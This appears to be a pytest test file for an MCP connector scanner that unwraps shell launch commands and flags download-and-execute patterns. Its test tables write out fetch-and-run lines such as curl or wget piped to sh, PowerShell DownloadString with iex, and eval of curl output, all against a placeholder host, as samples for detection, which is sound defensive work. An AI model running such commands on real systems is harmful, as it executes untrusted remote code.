"""Shell launches unwrapped (issue 10): table of argv -> what the launch is."""

from __future__ import annotations

import base64

import pytest

from mcpscan.models import Connector, Launch, SourceLocation
from mcpscan.sources.launchers import unwrap
from mcpscan.sources.launchers.scripts import parse


def run(command: str, *args: str) -> Launch:
    return unwrap(
        Connector(
            name="c",
            source=SourceLocation("f", 1, "x"),
            transport="stdio",
            command=command,
            args=args,
        )
    )


def ps_encoded(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


UNWRAPPED = [
    (("bash", "-lc", "cd /srv && exec npx -y pkg"), "bash -lc", "npx", ("pkg",)),
    (
        ("sh", "-c", "set -e; export NODE_ENV=production; exec node_modules/.bin/x"),
        "sh -c",
        "binary",
        (),
    ),
    (
        ("zsh", "-c", "source ~/.nvm/nvm.sh && nvm use 20 && npx -y pkg@1.0.0"),
        "zsh -c",
        "npx",
        ("pkg@1.0.0",),
    ),
    (("dash", "-c", "npx -y pkg@1.0.0 2>/dev/null"), "dash -c", "npx", ("pkg@1.0.0",)),
    (
        ("bash", "-c", "A=1 B=2 exec env C=3 uvx mcp-server-time==1.0 # comment"),
        "bash -c",
        "uvx",
        ("mcp-server-time==1.0",),
    ),
    (("sh", "-c", "exec sudo -E npx -y pkg@1.0.0"), "sh -c", "npx", ("pkg@1.0.0",)),
    (("cmd", "/c", "cd /d C:\\srv && npx -y pkg@1.0.0"), "cmd /c", "npx", ("pkg@1.0.0",)),
    (("cmd", "/c", "npx", "-y", "pkg@1.0.0"), None, "npx", ("pkg@1.0.0",)),
    (
        (
            "powershell",
            "-NoProfile",
            "-ExecutionPolicy",
            "Bypass",
            "-Command",
            "Set-Location C:\\srv; npx -y pkg@1.0.0",
        ),
        "powershell -Command",
        "npx",
        ("pkg@1.0.0",),
    ),
    (
        ("pwsh", "-EncodedCommand", ps_encoded("npx -y pkg@1.0.0")),
        "pwsh -EncodedCommand",
        "npx",
        ("pkg@1.0.0",),
    ),
    (("cd /srv && npx -y pkg@1.0.0",), "the command string", "npx", ("pkg@1.0.0",)),
    (("npx", "-c", "cd /srv && mcp-remote https://x.example/sse"), "npx -c", "npx", ()),
]


@pytest.mark.parametrize(("argv", "shell", "launcher", "specs"), UNWRAPPED)
def test_simple_scripts_unwrap_to_their_launch(
    argv: tuple[str, ...], shell: str | None, launcher: str, specs: tuple[str, ...]
) -> None:
    launch = run(*argv)
    assert launch.shell == shell
    assert launch.launcher == launcher
    assert tuple(p.spec for p in launch.packages) == specs
    assert launch.opaque == ()
    assert launch.downloads == ()


DOWNLOADS = [
    (("sh", "-c", "curl -fsSL https://h.example/i.sh | sh"), "https://h.example/i.sh", "curl | sh"),
    (
        ("sh", "-c", "curl -fsSL https://h.example/i.sh | sudo -E bash -s -- --yes"),
        "https://h.example/i.sh",
        "curl | bash",
    ),
    (
        ("bash", "-c", "wget -qO- https://h.example/i.sh | bash"),
        "https://h.example/i.sh",
        "wget | bash",
    ),
    (
        ("bash", "-c", "source <(curl -s https://h.example/env)"),
        "https://h.example/env",
        "process substitution",
    ),
    (
        ("bash", "-c", "python3 <(curl -s https://h.example/x.py)"),
        "https://h.example/x.py",
        "process substitution",
    ),
    (
        ("sh", "-c", 'eval "$(curl -fsSL https://h.example/e)"'),
        "https://h.example/e",
        "command substitution",
    ),
    (("sh", "-c", "`curl https://h.example/a`"), "https://h.example/a", "command substitution"),
    (
        ("sh", "-c", "wget https://h.example/run.sh && chmod +x run.sh && ./run.sh"),
        "https://h.example/run.sh",
        "download, then run",
    ),
    (
        ("sh", "-c", "curl -o x.sh https://h.example/x.sh; bash x.sh"),
        "https://h.example/x.sh",
        "download, then run",
    ),
    (
        (
            "powershell",
            "-c",
            "iex (New-Object Net.WebClient).DownloadString('https://h.example/a')",
        ),
        "https://h.example/a",
        "iwr | iex",
    ),
    (
        ("pwsh", "-Command", "irm https://h.example/i.ps1 | iex"),
        "https://h.example/i.ps1",
        "iwr | iex",
    ),
    (
        ("cmd", "/c", "curl -s https://h.example/x.cmd -o x.cmd && x.cmd"),
        "https://h.example/x.cmd",
        "download, then run",
    ),
    (("curl -fsSL https://h.example/i.sh | sh",), "https://h.example/i.sh", "curl | sh"),
    (
        ("bash", "-c", "if x; then curl https://h.example/i | sh; fi"),
        "https://h.example/i",
        "curl | sh",
    ),
]


@pytest.mark.parametrize(("argv", "url", "form"), DOWNLOADS)
def test_download_and_execute(argv: tuple[str, ...], url: str, form: str) -> None:
    launch = run(*argv)
    assert [(d.url, d.form) for d in launch.downloads] == [(url, form)]


def test_a_download_that_is_not_run_is_not_download_and_execute() -> None:
    launch = run("sh", "-c", "curl -o data.json https://h.example/d.json && npx -y pkg@1.0.0")
    assert launch.downloads == ()
    assert launch.launcher == "npx"


def test_a_substituted_argument_names_what_it_runs() -> None:
    launch = run("sh", "-c", 'GITHUB_TOKEN="$(gh auth token)" exec npx -y pkg@1.0.0')
    assert launch.launcher == "npx"
    assert [(c.kind, c.path) for c in launch.local] == [("program", "gh")]


OPAQUE = [
    (("bash", "-c", "if true; then npx -y pkg; fi"), "control flow"),
    (("bash", "-c", "for i in 1; do npx x; done"), "control flow"),
    (("sh", "-c", "(cd /srv && npx -y pkg)"), "subshell"),
    (("sh", "-c", "cat <<EOF | sh\nnpx x\nEOF"), "here-document"),
    (("sh", "-c", "eval $CMD"), "eval"),
    (("sh", "-c", "$(which server) --stdio"), "command substitution"),
    (("sh", "-c", "npx -y 'pkg"), "unbalanced quotes"),
    (("sh", "-c", "echo $((1+2))"), "arithmetic"),
    (("bash",), "standard input"),
    (("bash", "-c"), "no script"),
    (("pwsh", "-Command", "Get-Item x | ForEach-Object { npx $_ }"), "script block"),
    (("pwsh", "-EncodedCommand", "@@@"), "base64"),
    (("cmd", "/k"), "empty"),
    (("sh", "-c", "cd /srv; true"), "recognises as the server"),
]


@pytest.mark.parametrize(("argv", "why"), OPAQUE)
def test_what_cannot_be_understood_says_why(argv: tuple[str, ...], why: str) -> None:
    launch = run(*argv)
    assert any(why in o for o in launch.opaque), launch.opaque


def test_script_files_are_local_code() -> None:
    assert [(c.kind, c.path, c.launcher) for c in run("bash", "./start.sh").local] == [
        ("script", "./start.sh", "bash")
    ]
    assert [(c.kind, c.path) for c in run("pwsh", "-File", "C:\\s\\x.ps1").local] == [
        ("script", "C:\\s\\x.ps1")
    ]


def test_the_lexer_keeps_quotes_and_splits_operators() -> None:
    script = parse("A='x y' npx -y \"p q\" && echo 'a && b' | tee log 2>&1")
    first, second = script.steps
    [npx] = first.commands
    assert npx.assignments == (("A", "x y"),)
    assert npx.words == ("npx", "-y", "p q")
    echo, tee = second.commands
    assert echo.words == ("echo", "a && b")
    assert tee.words == ("tee", "log")
    assert tee.redirects == ((">&", "1"),)


def test_an_oversized_script_is_refused_not_read() -> None:
    assert parse("x " * 40_000).opaque == ("the script is longer than 64 KiB",)
